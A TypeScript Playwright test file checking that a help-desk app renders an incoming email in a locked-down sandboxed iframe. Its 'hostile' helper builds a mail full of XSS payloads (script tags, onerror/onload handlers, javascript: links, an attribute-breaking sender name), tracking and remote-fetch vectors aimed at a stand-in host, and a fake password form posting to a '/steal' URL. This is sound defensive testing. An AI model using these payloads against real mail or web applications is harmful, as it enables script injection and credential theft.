import { describe, expect, it } from "vitest";
import { composeMail } from "#tests/sandbox/mailbox/compose-mail.ts";
import { useStage } from "./use-stage.ts";

const elsewhere = "http://127.0.0.1:9/";

const stage = useStage();

describe("a mail that attacks its reader", () => {
  it("is read as text and markup: nothing runs, nothing is fetched, nothing is submitted", async () => {
    await stage().writeRaw(stage().customer(0), hostile("Your invoice <script>alert(1)</script>"));
    const desk = await stage().openApp();
    const { page, app } = desk;
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });

    await app.locator("[data-test=ticket-row]").click();
    const mail = app.frameLocator("iframe.loupe-mail-frame");
    await mail.getByText("Please pay at once.").waitFor();
    await mail.getByText("Open the invoice").waitFor();
    await mail.locator("body").click();

    const frame = app.locator("iframe.loupe-mail-frame");
    const sandboxed = (await frame.getAttribute("sandbox")) ?? "";
    expect(sandboxed).not.toContain("allow-scripts");
    expect(sandboxed).not.toContain("allow-forms");
    expect(sandboxed).not.toContain("allow-top-navigation");
    expect(await frame.getAttribute("referrerpolicy")).toBe("no-referrer");
    expect(await frame.getAttribute("srcdoc")).toContain("default-src 'none'");
    expect(
      await mail
        .locator(
          "script, form, input, iframe, object, svg, link, meta[http-equiv=refresh], [onerror], [onclick]",
        )
        .count(),
    ).toBe(0);
    expect(
      await mail.locator("a[href^='javascript:'], img[src^='http'], [style*='url(']").count(),
    ).toBe(0);
    expect(asked.filter((url) => url.startsWith(elsewhere))).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(await desk.frame().evaluate(() => "owned" in window)).toBe(false);
    expect(await page.evaluate(() => "owned" in window)).toBe(false);
    expect(
      await desk
        .frame()
        .evaluate(() => document.querySelectorAll("script[src*='127.0.0.1:9']").length),
    ).toBe(0);
  });
});

function hostile(subject: string): Buffer {
  const { email, firstName } = stage().customer(0);
  return composeMail({
    from: email,
    fromName: `${firstName} "><img src=x onerror="parent.owned=1">`,
    to: stage().support[0],
    subject,
    client: "gmail",
    text: "Please pay at once.",
    html: `<p>Please pay at once.</p>
<script>parent.owned = 1; top.owned = 1; alert("script")</script>
<script src="${elsewhere}script.js"></script>
<img src="x" onerror="parent.owned = 1; alert('onerror')">
<img src="${elsewhere}pixel.gif" width="1" height="1">
<img srcset="${elsewhere}set.gif 1x"><video poster="${elsewhere}poster.png"></video>
<svg onload="parent.owned = 1"><image href="${elsewhere}svg.png"/></svg>
<div style="background: url(${elsewhere}back.png); position: fixed; inset: 0">covers</div>
<style>@import "${elsewhere}style.css"; body { background: url(${elsewhere}body.png) }</style>
<link rel="stylesheet" href="${elsewhere}link.css"><meta http-equiv="refresh" content="0;url=${elsewhere}">
<form action="${elsewhere}steal"><input name="password"><button>Sign in</button></form>
<iframe src="${elsewhere}frame"></iframe><object data="${elsewhere}object"></object>
<a href="javascript:parent.owned=1" onclick="parent.owned=1">Open the invoice</a>
<base href="${elsewhere}"><template><script>parent.owned=1</script></template>`,
  });
}
